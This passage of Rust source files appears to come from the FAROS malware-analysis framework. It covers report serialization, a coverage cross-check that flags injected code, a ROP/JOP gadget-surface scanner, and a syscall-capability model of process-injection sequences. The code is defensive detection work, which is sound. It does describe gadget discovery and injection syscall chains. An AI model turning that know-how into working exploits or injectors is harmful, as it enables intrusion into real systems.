impl ToJson for StaticReport {
    fn to_json_value(&self) -> JsonValue {
        let resolved: Vec<JsonValue> = self
            .resolved_sites
            .iter()
            .map(|(va, targets)| {
                JsonValue::object(vec![
                    ("va", va.to_json_value()),
                    ("targets", targets.to_json_value()),
                ])
            })
            .collect();
        JsonValue::object(vec![
            ("module", self.module.to_json_value()),
            ("findings", self.findings.to_json_value()),
            ("resolved_sites", JsonValue::Array(resolved)),
            ("flows", self.flows.to_json_value()),
            ("stats", self.stats.to_json_value()),
            ("gadgets", self.gadgets.to_json_value()),
            ("cfi", self.cfi.to_json_value()),
            ("capabilities", self.capabilities.to_json_value()),
        ])
    }
}

impl FromJson for StaticReport {
    fn from_json_value(v: &JsonValue) -> Result<StaticReport, JsonError> {
        let raw = v
            .get("resolved_sites")
            .and_then(JsonValue::as_array)
            .ok_or_else(|| JsonError::decode("missing resolved_sites array"))?;
        let mut resolved_sites = Vec::with_capacity(raw.len());
        for s in raw {
            resolved_sites.push((json::field(s, "va")?, json::field(s, "targets")?));
        }
        Ok(StaticReport {
            module: json::field(v, "module")?,
            findings: json::field(v, "findings")?,
            resolved_sites,
            flows: json::field(v, "flows")?,
            stats: json::field(v, "stats")?,
            // Absent in pre-CFI / pre-capability reports.
            gadgets: json::field_or_default(v, "gadgets")?,
            cfi: json::field_or_default(v, "cfi")?,
            capabilities: json::field_or_default(v, "capabilities")?,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use faros_emu::asm::Asm;
    use faros_emu::isa::Reg;
    use faros_emu::mmu::Perms;
    use faros_kernel::module::Section;

    const BASE: u32 = 0x40_0000;

    fn demo_image() -> FdlImage {
        let mut asm = Asm::new(BASE);
        asm.mov_label(Reg::Ebx, "helper");
        asm.call_reg(Reg::Ebx);
        asm.hlt();
        asm.label("helper");
        asm.ret();
        FdlImage {
            entry: BASE,
            export_table_va: 0,
            sections: vec![Section {
                va: BASE,
                data: asm.assemble().unwrap(),
                perms: Perms::RX,
            }],
            exports: vec![],
        }
    }

    #[test]
    fn report_resolves_the_indirect_and_round_trips() {
        let report = StaticReport::build("demo", &demo_image());
        assert_eq!(report.resolved_sites.len(), 1);
        assert!(report.findings.iter().all(|f| f.kind != FindingKind::UnresolvedIndirect));
        assert_eq!(report.errors().count(), 0);
        let json = report.to_json().unwrap();
        let restored = StaticReport::from_json(&json).unwrap();
        assert_eq!(restored, report);
        // Byte-stable: re-serializing is the identity.
        assert_eq!(restored.to_json().unwrap(), json);
    }
}
