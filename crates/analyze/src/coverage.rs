//! The static-vs-dynamic coverage cross-check.
//!
//! [`diff`] takes the per-process executed-block sets a replay recorded
//! (via [`faros_replay::BlockCoverage`]) and the static models of every
//! module image, and classifies each executed block start:
//!
//! * **kernel** — kernel-space VAs (`>= KERNEL_BASE`); the kernel module
//!   is assembled at boot, not loaded from an image, and is trusted;
//! * **accounted** — inside an executable section of a loaded module whose
//!   static disassembly charts the address;
//! * **uncharted** — inside a module's executable section, but at an
//!   address the static model never decoded (decoder desync, or data
//!   executed in place) — advisory;
//! * **unaccounted** — user-space code *outside every loaded module's
//!   executable sections*: dynamically materialized code. This is the
//!   independent injection signal — reflective payloads, hollowed images
//!   and RAT stages all execute out of anonymous allocations, while the
//!   whole benign corpus (JIT applets excepted, by design) executes only
//!   image-backed code.

use crate::cfg::ModuleCfg;
use faros_emu::mmu::KERNEL_BASE;
use faros_kernel::module::FdlImage;
use faros_kernel::Pid;
use faros_replay::ProcessBlocks;
use std::collections::BTreeMap;
use std::fmt;

/// Coverage classification for one process.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProcessCoverage {
    /// Process id.
    pub pid: Pid,
    /// Process image name.
    pub process: String,
    /// Total executed block starts observed.
    pub executed: usize,
    /// Block starts in kernel space.
    pub kernel: usize,
    /// Block starts charted by a loaded module's static model.
    pub accounted: usize,
    /// Block starts inside a module's code sections but never statically
    /// decoded (advisory).
    pub uncharted: Vec<u32>,
    /// Block starts outside every loaded module's executable sections —
    /// statically unaccounted, dynamically materialized code.
    pub unaccounted: Vec<u32>,
}

/// The cross-check result for one replay.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CoverageReport {
    /// Per-process classifications, ordered by pid.
    pub processes: Vec<ProcessCoverage>,
}

impl CoverageReport {
    /// Returns `true` if any process executed statically unaccounted code.
    pub fn injection_suspected(&self) -> bool {
        self.processes.iter().any(|p| !p.unaccounted.is_empty())
    }

    /// Processes that executed statically unaccounted code.
    pub fn suspicious_processes(&self) -> Vec<&ProcessCoverage> {
        self.processes.iter().filter(|p| !p.unaccounted.is_empty()).collect()
    }

    /// The coverage row for a process name, if observed.
    pub fn process(&self, name: &str) -> Option<&ProcessCoverage> {
        self.processes.iter().find(|p| p.process == name)
    }

    /// Renders the report as a fixed-width table, one row per process.
    pub fn render_table(&self) -> String {
        let mut out = String::new();
        out.push_str(
            "process                | blocks | kernel | accounted | uncharted | unaccounted\n",
        );
        out.push_str(
            "-----------------------+--------+--------+-----------+-----------+------------\n",
        );
        for p in &self.processes {
            out.push_str(&format!(
                "{:<22} | {:>6} | {:>6} | {:>9} | {:>9} | {:>11}\n",
                p.process,
                p.executed,
                p.kernel,
                p.accounted,
                p.uncharted.len(),
                p.unaccounted.len(),
            ));
        }
        out
    }
}

impl fmt::Display for CoverageReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.render_table())
    }
}

/// The final path component, so `C:/notepad.exe` and `notepad.exe` key the
/// same image.
pub(crate) fn basename(path: &str) -> &str {
    path.rsplit(['/', '\\']).next().unwrap_or(path)
}

/// Builds the module-image map [`diff`] consumes, keyed by basename.
/// Feed it every image a scenario can load: its program images plus any
/// seed files that parse as FDL (dropped DLLs).
pub fn image_map<S: AsRef<str>>(
    entries: impl IntoIterator<Item = (S, FdlImage)>,
) -> BTreeMap<String, FdlImage> {
    entries
        .into_iter()
        .map(|(path, image)| (basename(path.as_ref()).to_string(), image))
        .collect()
}

/// Diffs replay-observed block starts against the static models of each
/// process's loaded modules.
pub fn diff(observed: &[ProcessBlocks], images: &BTreeMap<String, FdlImage>) -> CoverageReport {
    // Static models are per image, shared across processes.
    let mut cfgs: BTreeMap<&str, ModuleCfg> = BTreeMap::new();
    for (name, image) in images {
        cfgs.insert(name.as_str(), ModuleCfg::recover(name, image));
    }

    let mut processes = Vec::new();
    for proc in observed {
        let loaded: Vec<(&FdlImage, &ModuleCfg)> = proc
            .modules
            .iter()
            .filter_map(|m| {
                let key = basename(&m.name);
                Some((images.get(key)?, cfgs.get(key)?))
            })
            .collect();
        let mut cov = ProcessCoverage {
            pid: proc.pid,
            process: proc.name.clone(),
            executed: proc.block_starts.len(),
            kernel: 0,
            accounted: 0,
            uncharted: Vec::new(),
            unaccounted: Vec::new(),
        };
        for &va in &proc.block_starts {
            if va >= KERNEL_BASE {
                cov.kernel += 1;
            } else if let Some((_, cfg)) =
                loaded.iter().find(|(image, _)| image.is_code_va(va))
            {
                if cfg.accounts_for(va) {
                    cov.accounted += 1;
                } else {
                    cov.uncharted.push(va);
                }
            } else {
                cov.unaccounted.push(va);
            }
        }
        processes.push(cov);
    }
    CoverageReport { processes }
}

#[cfg(test)]
mod tests {
    use super::*;
    use faros_emu::asm::Asm;
    use faros_emu::mmu::Perms;
    use faros_kernel::module::{ModuleInfo, Section};
    use faros_kernel::Pid;
    use std::collections::BTreeSet;

    const BASE: u32 = 0x40_0000;

    fn simple_image() -> FdlImage {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(faros_emu::isa::Reg::Eax, 1);
        asm.hlt();
        FdlImage {
            entry: BASE,
            export_table_va: 0,
            sections: vec![Section {
                va: BASE,
                data: asm.assemble().unwrap(),
                perms: Perms::RX,
            }],
            exports: vec![],
        }
    }

    fn observed(name: &str, blocks: &[u32]) -> ProcessBlocks {
        ProcessBlocks {
            pid: Pid(1),
            name: name.into(),
            modules: vec![ModuleInfo {
                name: format!("C:/{name}"),
                base: BASE,
                entry: BASE,
                export_table_va: 0,
                exports: vec![],
            }],
            block_starts: blocks.iter().copied().collect::<BTreeSet<u32>>(),
            indirect_targets: BTreeMap::new(),
        }
    }

    #[test]
    fn image_backed_blocks_are_accounted() {
        let images = image_map([("C:/app.exe", simple_image())]);
        let report = diff(&[observed("app.exe", &[BASE])], &images);
        assert!(!report.injection_suspected());
        let p = report.process("app.exe").unwrap();
        assert_eq!(p.accounted, 1);
        assert!(p.unaccounted.is_empty());
    }

    #[test]
    fn anonymous_code_is_unaccounted() {
        let images = image_map([("C:/app.exe", simple_image())]);
        let report = diff(&[observed("app.exe", &[BASE, 0x0100_0000])], &images);
        assert!(report.injection_suspected());
        let p = report.process("app.exe").unwrap();
        assert_eq!(p.unaccounted, vec![0x0100_0000]);
        assert_eq!(report.suspicious_processes().len(), 1);
    }

    #[test]
    fn kernel_space_blocks_are_trusted() {
        let images = image_map([("C:/app.exe", simple_image())]);
        let report = diff(&[observed("app.exe", &[0x8000_0010])], &images);
        assert!(!report.injection_suspected());
        assert_eq!(report.processes[0].kernel, 1);
    }

    #[test]
    fn code_section_bytes_never_decoded_are_uncharted_not_unaccounted() {
        // Pad the image's code section; a mid-padding VA is inside code but
        // charted (nops). A VA past the section end is unaccounted.
        let mut image = simple_image();
        let len = image.sections[0].data.len() as u32;
        image.sections[0].data.resize(len as usize + 16, 0);
        let images = image_map([("C:/app.exe", image)]);
        let report = diff(&[observed("app.exe", &[BASE + len + 2])], &images);
        assert_eq!(report.processes[0].accounted, 1); // nop padding is charted
        assert!(!report.injection_suspected());
    }

    #[test]
    fn table_lists_every_process() {
        let images = image_map([("C:/app.exe", simple_image())]);
        let report = diff(&[observed("app.exe", &[BASE])], &images);
        let t = report.render_table();
        assert!(t.contains("app.exe"));
        assert!(t.contains("unaccounted"));
    }
}
