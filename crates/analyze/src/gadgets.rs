//! Gadget-surface scanner — how much raw material an image offers a
//! code-reuse (ROP/JOP) attacker.
//!
//! A *gadget* is a short instruction run ending in a free-branch
//! instruction (`ret`, `call reg`, `jmp reg`) that an attacker can chain
//! without injecting a single byte. The scanner linear-sweeps every
//! executable section **at every byte offset** (the Galileo approach —
//! attackers are not obliged to respect instruction boundaries), finds
//! each decodable free-branch *endpoint*, classifies it as *intended*
//! (on a CFG instruction boundary) or *unintended* (inside the encoding
//! of another instruction), and counts the distinct start offsets from
//! which a straight-line decode reaches the endpoint within a short
//! suffix window. The per-section density score — gadget starts per KiB
//! of code — is what an analyst compares across images: a high density
//! means a rich reuse surface even though the static linter sees a
//! perfectly W^X-clean module.
//!
//! Everything here is a pure function of the image bytes, so the
//! [`GadgetReport`] is byte-deterministic and JSON-stable.

use crate::cfg::ModuleCfg;
use faros_emu::encode::decode_at;
use faros_emu::isa::Instr;
use faros_kernel::module::FdlImage;
use faros_obs::metrics::MetricsRegistry;
use faros_obs::trace::{RecorderHandle, TraceCategory, TraceEvent};
use faros_support::json::{self, FromJson, JsonError, JsonValue, ToJson};

/// Maximum bytes a gadget body may span before its endpoint.
pub const SUFFIX_WINDOW: u32 = 16;

/// Maximum instructions in a gadget body (endpoint included).
pub const MAX_GADGET_INSNS: u32 = 5;

/// Gadget counts for one executable section.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SectionGadgets {
    /// Section start VA.
    pub va: u32,
    /// Bytes scanned (the section length).
    pub bytes: u32,
    /// Decodable `ret` endpoints.
    pub ret_endpoints: u32,
    /// Decodable `call reg` endpoints.
    pub call_endpoints: u32,
    /// Decodable `jmp reg` endpoints.
    pub jmp_endpoints: u32,
    /// Endpoints not on a CFG instruction boundary.
    pub unintended_endpoints: u32,
    /// Distinct `(start, endpoint)` gadget bodies within the suffix
    /// window.
    pub gadgets: u32,
    /// Gadget bodies per KiB of section bytes (rounded down).
    pub density_per_kib: u32,
}

impl SectionGadgets {
    /// All free-branch endpoints in the section.
    pub fn endpoints(&self) -> u32 {
        self.ret_endpoints + self.call_endpoints + self.jmp_endpoints
    }
}

/// Scan counters, mergeable across images — the `gadgets.*` metrics.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct GadgetStats {
    /// Executable sections scanned.
    pub sections_scanned: u64,
    /// Total bytes swept (every byte is a candidate decode offset).
    pub bytes_scanned: u64,
    /// Free-branch endpoints found.
    pub endpoints: u64,
    /// Endpoints off any CFG instruction boundary.
    pub unintended: u64,
    /// Gadget bodies counted.
    pub gadgets: u64,
}

impl GadgetStats {
    /// Accumulates another scan's counters into `self`.
    pub fn merge(&mut self, other: &GadgetStats) {
        self.sections_scanned += other.sections_scanned;
        self.bytes_scanned += other.bytes_scanned;
        self.endpoints += other.endpoints;
        self.unintended += other.unintended;
        self.gadgets += other.gadgets;
    }

    /// Emits the counters as `gadgets.*` metrics.
    pub fn record_into(&self, reg: &mut MetricsRegistry) {
        for (name, value) in self.rows() {
            let id = reg.counter(name);
            reg.add(id, value);
        }
    }

    /// The counters as `(metric name, value)` rows, in emission order.
    pub fn rows(&self) -> [(&'static str, u64); 5] {
        [
            ("gadgets.sections", self.sections_scanned),
            ("gadgets.bytes_scanned", self.bytes_scanned),
            ("gadgets.endpoints", self.endpoints),
            ("gadgets.unintended", self.unintended),
            ("gadgets.found", self.gadgets),
        ]
    }

    /// Emits the counters as one `analysis`-category instant event into a
    /// trace recorder.
    pub fn trace_into(&self, rec: &RecorderHandle, ts: u64, module: &str) {
        let mut ev =
            TraceEvent::instant(ts, 0, 0, TraceCategory::Analysis, format!("gadgets {module}"));
        for (name, value) in self.rows() {
            ev = ev.arg(name, value.to_string());
        }
        rec.record(ev);
    }
}

impl ToJson for GadgetStats {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("sections_scanned", self.sections_scanned.to_json_value()),
            ("bytes_scanned", self.bytes_scanned.to_json_value()),
            ("endpoints", self.endpoints.to_json_value()),
            ("unintended", self.unintended.to_json_value()),
            ("gadgets", self.gadgets.to_json_value()),
        ])
    }
}

impl FromJson for GadgetStats {
    fn from_json_value(v: &JsonValue) -> Result<GadgetStats, JsonError> {
        Ok(GadgetStats {
            sections_scanned: json::field(v, "sections_scanned")?,
            bytes_scanned: json::field(v, "bytes_scanned")?,
            endpoints: json::field(v, "endpoints")?,
            unintended: json::field(v, "unintended")?,
            gadgets: json::field(v, "gadgets")?,
        })
    }
}

/// The gadget surface of one image.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct GadgetReport {
    /// Module name the scan ran over.
    pub module: String,
    /// Per-section counts, in section VA order.
    pub sections: Vec<SectionGadgets>,
    /// Whole-image counters (the `gadgets.*` metrics).
    pub stats: GadgetStats,
}

impl GadgetReport {
    /// Whole-image gadget density per KiB of executable bytes.
    pub fn density_per_kib(&self) -> u64 {
        if self.stats.bytes_scanned == 0 {
            return 0;
        }
        self.stats.gadgets * 1024 / self.stats.bytes_scanned
    }
}

/// Returns `true` if `instr` is a free branch usable as a gadget endpoint.
fn is_endpoint(instr: Instr) -> bool {
    matches!(instr, Instr::Ret | Instr::CallReg { .. } | Instr::JmpReg { .. })
}

/// Scans every executable section of `image` for gadget endpoints and
/// bodies. `cfg` supplies the intended instruction boundaries (any
/// recovered CFG for the same image works — resolution state is
/// irrelevant here).
pub fn scan_image(name: &str, image: &FdlImage, cfg: &ModuleCfg) -> GadgetReport {
    let mut sections = Vec::new();
    let mut stats = GadgetStats::default();
    for s in image.sections.iter().filter(|s| s.is_code()) {
        let mut sec = SectionGadgets {
            va: s.va,
            bytes: s.data.len() as u32,
            ..SectionGadgets::default()
        };
        // Pass 1: every byte offset that decodes to a free branch is an
        // endpoint.
        let mut endpoints: Vec<u32> = Vec::new();
        for off in 0..s.data.len() {
            let Ok((instr, len)) = decode_at(&s.data, off) else { continue };
            if off + len > s.data.len() || !is_endpoint(instr) {
                continue;
            }
            let va = s.va + off as u32;
            endpoints.push(off as u32);
            match instr {
                Instr::Ret => sec.ret_endpoints += 1,
                Instr::CallReg { .. } => sec.call_endpoints += 1,
                _ => sec.jmp_endpoints += 1,
            }
            if cfg.instr_at(va).is_none() {
                sec.unintended_endpoints += 1;
            }
        }
        // Pass 2: for each endpoint, count the distinct starts within the
        // suffix window whose straight-line decode lands exactly on it.
        for &end in &endpoints {
            let lo = end.saturating_sub(SUFFIX_WINDOW);
            for start in lo..=end {
                if decodes_to(&s.data, start, end) {
                    sec.gadgets += 1;
                }
            }
        }
        sec.density_per_kib =
            if sec.bytes == 0 { 0 } else { (sec.gadgets as u64 * 1024 / sec.bytes as u64) as u32 };
        stats.sections_scanned += 1;
        stats.bytes_scanned += sec.bytes as u64;
        stats.endpoints += sec.endpoints() as u64;
        stats.unintended += sec.unintended_endpoints as u64;
        stats.gadgets += sec.gadgets as u64;
        sections.push(sec);
    }
    GadgetReport { module: name.to_string(), sections, stats }
}

/// Returns `true` if decoding straight-line from `start` reaches exactly
/// the endpoint at `end` within [`MAX_GADGET_INSNS`] instructions, with
/// no earlier control transfer.
fn decodes_to(data: &[u8], start: u32, end: u32) -> bool {
    let mut pos = start;
    for _ in 0..MAX_GADGET_INSNS {
        if pos == end {
            return true;
        }
        if pos > end {
            return false;
        }
        let Ok((instr, len)) = decode_at(data, pos as usize) else { return false };
        if instr.ends_block() {
            // A jump/call/ret before the endpoint breaks the chain.
            return false;
        }
        pos += len as u32;
    }
    false
}

impl ToJson for SectionGadgets {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("va", self.va.to_json_value()),
            ("bytes", self.bytes.to_json_value()),
            ("ret_endpoints", self.ret_endpoints.to_json_value()),
            ("call_endpoints", self.call_endpoints.to_json_value()),
            ("jmp_endpoints", self.jmp_endpoints.to_json_value()),
            ("unintended_endpoints", self.unintended_endpoints.to_json_value()),
            ("gadgets", self.gadgets.to_json_value()),
            ("density_per_kib", self.density_per_kib.to_json_value()),
        ])
    }
}

impl FromJson for SectionGadgets {
    fn from_json_value(v: &JsonValue) -> Result<SectionGadgets, JsonError> {
        Ok(SectionGadgets {
            va: json::field(v, "va")?,
            bytes: json::field(v, "bytes")?,
            ret_endpoints: json::field(v, "ret_endpoints")?,
            call_endpoints: json::field(v, "call_endpoints")?,
            jmp_endpoints: json::field(v, "jmp_endpoints")?,
            unintended_endpoints: json::field(v, "unintended_endpoints")?,
            gadgets: json::field(v, "gadgets")?,
            density_per_kib: json::field(v, "density_per_kib")?,
        })
    }
}

impl ToJson for GadgetReport {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("module", self.module.to_json_value()),
            ("sections", self.sections.to_json_value()),
            ("stats", self.stats.to_json_value()),
        ])
    }
}

impl FromJson for GadgetReport {
    fn from_json_value(v: &JsonValue) -> Result<GadgetReport, JsonError> {
        Ok(GadgetReport {
            module: json::field(v, "module")?,
            sections: json::field(v, "sections")?,
            stats: json::field(v, "stats")?,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use faros_emu::asm::Asm;
    use faros_emu::isa::{Mem, Reg};
    use faros_emu::mmu::Perms;
    use faros_kernel::module::Section;

    const BASE: u32 = 0x40_0000;

    fn image_of(asm: Asm) -> FdlImage {
        FdlImage {
            entry: BASE,
            export_table_va: 0,
            sections: vec![Section {
                va: BASE,
                data: asm.assemble().unwrap(),
                perms: Perms::RX,
            }],
            exports: vec![],
        }
    }

    fn scan(image: &FdlImage) -> GadgetReport {
        let cfg = ModuleCfg::recover("t", image);
        scan_image("t", image, &cfg)
    }

    #[test]
    fn straight_line_code_has_a_small_intended_surface() {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Eax, 1);
        asm.mov_ri(Reg::Ebx, 2);
        asm.hlt();
        let report = scan(&image_of(asm));
        assert_eq!(report.sections.len(), 1);
        assert_eq!(report.stats.endpoints, 0);
        assert_eq!(report.stats.gadgets, 0);
        assert_eq!(report.density_per_kib(), 0);
    }

    #[test]
    fn every_ret_is_an_endpoint_with_suffix_starts() {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Eax, 7); // entry block, falls into the ret
        asm.ret();
        let report = scan(&image_of(asm));
        assert_eq!(report.stats.endpoints, 1);
        let sec = &report.sections[0];
        assert_eq!(sec.ret_endpoints, 1);
        // At minimum the ret itself and the mov prefix form gadget bodies.
        assert!(sec.gadgets >= 2, "{}", sec.gadgets);
        assert_eq!(sec.unintended_endpoints, 0);
    }

    #[test]
    fn unintended_endpoints_hide_inside_immediates() {
        // A 4-byte immediate containing the `ret` opcode byte yields an
        // endpoint off every CFG instruction boundary.
        let ret_opcode = {
            let mut a = Asm::new(0);
            a.ret();
            a.assemble().unwrap()[0] as u32
        };
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Eax, ret_opcode); // immediate bytes: rr 00 00 00
        asm.hlt();
        let report = scan(&image_of(asm));
        let sec = &report.sections[0];
        assert!(sec.unintended_endpoints >= 1, "{sec:?}");
        assert!(report.stats.gadgets >= 1);
    }

    #[test]
    fn indirect_branches_count_as_jop_endpoints() {
        let mut asm = Asm::new(BASE);
        asm.ld4(Reg::Ebx, Mem::abs(BASE + 0x100));
        asm.call_reg(Reg::Ebx);
        asm.jmp_reg(Reg::Ecx);
        let report = scan(&image_of(asm));
        let sec = &report.sections[0];
        assert!(sec.call_endpoints >= 1);
        assert!(sec.jmp_endpoints >= 1);
    }

    #[test]
    fn report_round_trips_through_json() {
        let mut asm = Asm::new(BASE);
        asm.mov_ri(Reg::Eax, 0xc3c3_c3c3);
        asm.ret();
        let report = scan(&image_of(asm));
        let v = report.to_json_value();
        let restored = GadgetReport::from_json_value(&v).unwrap();
        assert_eq!(restored, report);
    }
}
