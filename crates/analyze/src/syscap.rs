//! Static syscall-capability analysis and its dynamic cross-check.
//!
//! FAROS's thesis is that in-memory injection is a *sequence of capability
//! syscalls*: allocate executable memory in a victim, write foreign bytes
//! into it, redirect control. This module derives, per image, what the
//! image is statically *able to do* through the syscall ABI — not which
//! bytes flow where (that is [`crate::dataflow`]'s job) but which
//! [`Capability`]s its reachable syscall sites can exercise, with the
//! abstract argument values that justify each one.
//!
//! The analysis is an interprocedural abstract interpretation over the
//! [`crate::vsa`] domain, structured exactly like the taint phases:
//!
//! * **Phase A** — at every reachable `int` site whose service number the
//!   VSA resolved to a constant, the abstract arguments (protection bits,
//!   target-handle provenance) are lifted into the capability lattice
//!   ([`CapSet`], join = union) via [`caps_of_syscall`].
//! * **Phase B** — per-function capability summaries compose over the
//!   static call graph to a fixpoint ([`summarize`]): a function holds
//!   every capability of its callees.
//! * **Phase C** — witness extraction: for each image capability, the
//!   shortest call path from an externally reachable root (entry or
//!   export) to a function exercising it, plus the rendered abstract
//!   arguments ([`CapWitness`]).
//!
//! On top of the per-capability view sit ordered *injection recipes*
//! ([`RECIPES`]): multi-step capability sequences (e.g. `alloc-exec-remote
//! → write-remote → create-remote-thread`) checked for program-order
//! presence. "Program order" is approximated by strictly ascending site
//! VAs across the reachable sites — exact for the straight-line loaders
//! the corpus ships, conservative in general.
//!
//! [`capability_cross_check`] is the dynamic half, mirroring the taint
//! cross-check: each capability a process *concretely exercised* (recorded
//! by `faros-replay`'s `CapabilityMonitor`) is classified statically
//! *modeled* or **statically impossible-per-model** — the new alert class:
//! a process exercising an injection capability its own loaded images
//! cannot justify is running injected or laundered code. Because the
//! kernel module's API stubs forward the caller's argument registers
//! verbatim, any image that can call into unknown code (an unresolved
//! indirect, a call target outside the image, or a syscall with an
//! unresolvable service number) is granted the stub-reachable *ambient*
//! set ([`ambient_caps`]) — the sound direction: a capability is only
//! called impossible when even that escape hatch cannot produce it.
//! Statically present recipes no replay ever exercised are reported as
//! *residual capability surface*.

use crate::cfg::ModuleCfg;
use crate::dataflow::{basename, ImageDataflow};
use crate::lint::{Finding, FindingKind, Severity};
use crate::vsa::AVal;
use faros_emu::isa::Instr;
use faros_kernel::module::FdlImage;
use faros_kernel::nt::{Sysno, CURRENT_PROCESS, CURRENT_THREAD};
use faros_kernel::Machine;
use faros_obs::metrics::MetricsRegistry;
use faros_obs::trace::{RecorderHandle, TraceCategory, TraceEvent};
use faros_replay::syscap::{CapSet, Capability, ProcessCapabilities};
use faros_support::json::{self, FromJson, JsonError, JsonValue, ToJson};
use std::collections::{BTreeMap, BTreeSet, VecDeque};

/// The executable bit of a `perms_bits` argument (bit 0 = R, 1 = W, 2 = X).
const PERM_X: u32 = 0b100;

// ---------------------------------------------------------------------
// Abstract lifting: VSA argument values → capabilities
// ---------------------------------------------------------------------

/// May the abstract value include one with the X permission bit set?
/// `Top`/`Sp` conservatively yes; an interval too wide to enumerate is
/// assumed to cover an X-bearing value.
fn may_have_x(av: &AVal) -> bool {
    match av {
        AVal::Bot => false,
        AVal::Si(si) => match si.enumerate() {
            Some(vs) => vs.iter().any(|v| v & PERM_X != 0),
            None => true,
        },
        _ => true,
    }
}

/// May the abstract value equal `v`?
fn may_eq(av: &AVal, v: u32) -> bool {
    match av {
        AVal::Bot => false,
        AVal::Si(si) => si.contains(v),
        _ => true,
    }
}

/// May the abstract value differ from `v`? Only a singleton `{v}` rules
/// this out.
fn may_ne(av: &AVal, v: u32) -> bool {
    match av {
        AVal::Bot => false,
        AVal::Si(si) => si.as_const() != Some(v),
        _ => true,
    }
}

/// Lifts one syscall invocation with abstract arguments (`args[0..4]` =
/// `ebx ecx edx esi edi`) into the capability lattice. This is the
/// abstract twin of `faros-replay`'s `concrete_capability`; on singleton
/// abstract values the two agree (pinned by a test below).
pub fn caps_of_syscall(sysno: u32, args: &[AVal; 5]) -> CapSet {
    let mut caps = CapSet::EMPTY;
    match Sysno::from_u32(sysno) {
        Some(Sysno::NtAllocateVirtualMemory) if may_have_x(&args[2]) => {
            if may_eq(&args[0], CURRENT_PROCESS) {
                caps.insert(Capability::AllocExecSelf);
            }
            if may_ne(&args[0], CURRENT_PROCESS) {
                caps.insert(Capability::AllocExecRemote);
            }
        }
        Some(Sysno::NtProtectVirtualMemory) if may_have_x(&args[3]) => {
            caps.insert(Capability::ProtectToExec);
        }
        Some(Sysno::NtMapViewOfSection) if may_have_x(&args[2]) => {
            caps.insert(Capability::MapExec);
        }
        Some(Sysno::NtWriteVirtualMemory) if may_ne(&args[0], CURRENT_PROCESS) => {
            caps.insert(Capability::WriteRemote);
        }
        Some(Sysno::NtReadVirtualMemory) if may_ne(&args[0], CURRENT_PROCESS) => {
            caps.insert(Capability::ReadRemote);
        }
        Some(Sysno::NtCreateThreadEx) if may_ne(&args[0], CURRENT_PROCESS) => {
            caps.insert(Capability::CreateRemoteThread);
        }
        Some(Sysno::NtSetContextThread) if may_ne(&args[0], CURRENT_THREAD) => {
            caps.insert(Capability::SetContext);
        }
        Some(Sysno::NtCreateUserProcess) => {
            caps.insert(Capability::SpawnProcess);
        }
        Some(Sysno::LdrLoadDll) => {
            caps.insert(Capability::LoadLibrary);
        }
        Some(Sysno::NtSocketSend) => {
            caps.insert(Capability::SendNet);
        }
        Some(Sysno::NtSocketRecv) => {
            caps.insert(Capability::RecvNet);
        }
        Some(Sysno::NtReadFile) => {
            caps.insert(Capability::ReadSensitive);
        }
        _ => {}
    }
    caps
}

/// The capabilities reachable through the kernel module's API stubs. A
/// stub forwards the caller's argument registers verbatim, so every
/// stubbed service is lifted with all-`Top` arguments. Any image that can
/// call into unknown code gets this set as its escape hatch.
pub fn ambient_caps() -> CapSet {
    let top = [AVal::Top; 5];
    Machine::kernel_stub_services()
        .into_iter()
        .map(|s| caps_of_syscall(s as u32, &top))
        .fold(CapSet::EMPTY, CapSet::union)
}

/// Renders an abstract value for witness output (ASCII, byte-stable).
fn render_aval(av: &AVal) -> String {
    match av {
        AVal::Bot => "bot".to_string(),
        AVal::Top => "top".to_string(),
        AVal::Sp(off) => format!("sp{off:+}"),
        AVal::Si(si) => match si.as_const() {
            Some(v) => format!("{v:#x}"),
            None => format!("{:#x}..{:#x}/{}", si.lo, si.hi, si.stride),
        },
    }
}

/// The argument positions (and names) that justify each capability, for
/// witness rendering.
fn relevant_args(cap: Capability) -> &'static [(usize, &'static str)] {
    match cap {
        Capability::AllocExecSelf | Capability::AllocExecRemote => {
            &[(0, "process"), (2, "perms")]
        }
        Capability::ProtectToExec => &[(0, "process"), (3, "perms")],
        Capability::MapExec => &[(0, "section"), (2, "perms")],
        Capability::WriteRemote | Capability::ReadRemote => &[(0, "process")],
        Capability::CreateRemoteThread => &[(0, "process"), (1, "start")],
        Capability::SetContext => &[(0, "thread")],
        Capability::SpawnProcess | Capability::LoadLibrary => &[],
        Capability::SendNet | Capability::RecvNet => &[(0, "socket")],
        Capability::ReadSensitive => &[(0, "file")],
    }
}

// ---------------------------------------------------------------------
// Phase B: summary composition
// ---------------------------------------------------------------------

/// Composes per-function local capability sets over the static call graph
/// to a fixpoint: a function's summary is its local set joined with every
/// callee's summary. Monotone in `local` (pinned by the property tests),
/// and terminating because the lattice is finite.
pub fn summarize(
    local: &BTreeMap<u32, CapSet>,
    call_graph: &BTreeMap<u32, BTreeSet<u32>>,
) -> BTreeMap<u32, CapSet> {
    let mut summary: BTreeMap<u32, CapSet> = local.clone();
    loop {
        let mut changed = false;
        for (&f, callees) in call_graph {
            let mut s = summary.get(&f).copied().unwrap_or(CapSet::EMPTY);
            for c in callees {
                s = s.union(summary.get(c).copied().unwrap_or(CapSet::EMPTY));
            }
            if Some(s) != summary.get(&f).copied() {
                summary.insert(f, s);
                changed = true;
            }
        }
        if !changed {
            return summary;
        }
    }
}

// ---------------------------------------------------------------------
// Recipes
// ---------------------------------------------------------------------

/// An ordered multi-step injection recipe over the capability lattice.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Recipe {
    /// Stable kebab-case name (wire format and report tables).
    pub name: &'static str,
    /// The capability steps, in required program order.
